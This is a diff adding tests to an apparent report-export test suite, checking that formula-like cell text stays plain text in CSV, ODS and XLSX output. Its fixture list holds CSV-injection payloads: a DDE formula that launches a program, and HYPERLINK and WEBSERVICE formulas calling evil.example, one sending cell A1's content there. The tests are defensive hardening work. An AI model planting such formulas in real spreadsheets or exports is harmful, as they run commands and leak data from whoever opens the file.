@@ -34,6 +34,32 @@ describe('A report as CSV', () => {
   });
 });
 
+/** What a spreadsheet takes for the beginning of a formula: also typed in full width, as Chinese keyboards do. */
+const FORMULAS = [
+  ...['=1+1', '+886', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1', '\n=1+1', '＝1+1', '＋1', '－1', '＠SUM(A1)'],
+  ...["=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example/?"&A1)', "=WEBSERVICE('https://evil.example')"],
+];
+
+describe.each(FORMULAS)('A text that looks like a formula, %j,', formula => {
+  const sheets: Sheet[] = [{ name: '總表', headings: 1, rows: [[formula], [formula, 1], ['a', formula]] }];
+
+  it('is text in a CSV, also in a heading, and as the name of a sheet', () => {
+    const csv = csvOf([...sheets, { name: formula, headings: 0, rows: [] }]).toString('utf8');
+    const inside = formula.replaceAll('"', '""');
+    expect(csv.split(inside)).toHaveLength(5);
+    expect(csv.split(`'${inside}`)).toHaveLength(5);
+  });
+
+  it('is text in an ODS and in an XLSX, which know no formula at all', async () => {
+    for (const file of [odsOf(sheets), await xlsxOf(sheets)]) {
+      const parts = Object.entries(unzipSync(file)).filter(([path]) => path.endsWith('.xml'));
+      const xml = parts.map(([, bytes]) => strFromU8(bytes)).join('');
+      expect(xml).not.toMatch(/<f[ >]|table:formula|DDE/);
+      expect(xml).toContain(formula.trim().slice(0, 3).replace(/"/g, '&quot;'));
+    }
+  });
+});
+
 describe('A report as ODS', () => {
   const file = odsOf(SHEETS);
   const parts = unzipSync(file);
